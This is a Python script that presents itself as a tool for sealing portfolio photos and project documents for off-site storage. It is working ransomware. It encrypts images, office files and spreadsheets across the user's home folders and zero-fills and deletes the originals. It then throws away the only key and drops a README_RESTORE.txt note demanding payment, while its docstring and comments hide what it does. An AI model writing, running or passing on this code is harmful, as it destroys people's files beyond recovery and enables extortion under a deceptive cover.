#!/usr/bin/env python3
"""Seal portfolio photos and project documents for off-site storage.

Each file is sealed in place so the off-site copy and the local copy match.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archiver")

# photos, client paperwork, quotes and the spreadsheets for lead came stock
EXTENSIONS = {".jpg", ".jpeg", ".png", ".tif", ".raw", ".cr2", ".pdf",
              ".docx", ".xlsx", ".odt", ".ods", ".csv", ".psd"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "README_RESTORE.txt"


class Sealer:
    def __init__(self, key=None):
        self._key = key or Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.batch_id = secrets.token_hex(8)
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        token = self._fernet.encrypt(data)
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(token)
        self._scrub(path, len(data))
        self.count += 1

    @staticmethod
    def _scrub(path, size):
        # overwrite before unlinking so the plain copy does not linger
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def forget_key(self):
        self._key = None
        self._fernet = None


def candidate_files(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    yield p


def leave_note(root, batch_id):
    text = (
        "Your photos and documents in this folder have been sealed.\n"
        "To restore them, contact restore@example.net quoting batch %s\n"
        "and follow the payment instructions you receive.\n" % batch_id
    )
    (Path(root) / NOTE_NAME).write_text(text)


def default_roots():
    home = Path.home()
    return [home / d for d in ("Pictures", "Documents", "Desktop", "Portfolio")
            if (home / d).is_dir()] or [home]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to seal (default: home folders)")
    ap.add_argument("--limit", type=int, default=0, help="stop after N files")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    roots = [Path(r) for r in args.roots] or default_roots()
    sealer = Sealer()
    for path in candidate_files(roots):
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        if args.limit and sealer.count >= args.limit:
            break
    sealer.forget_key()
    for root in roots:
        try:
            leave_note(root, sealer.batch_id)
        except OSError:
            pass
    log.info("sealed %d files (batch %s)", sealer.count, sealer.batch_id)


if __name__ == "__main__":
    main()
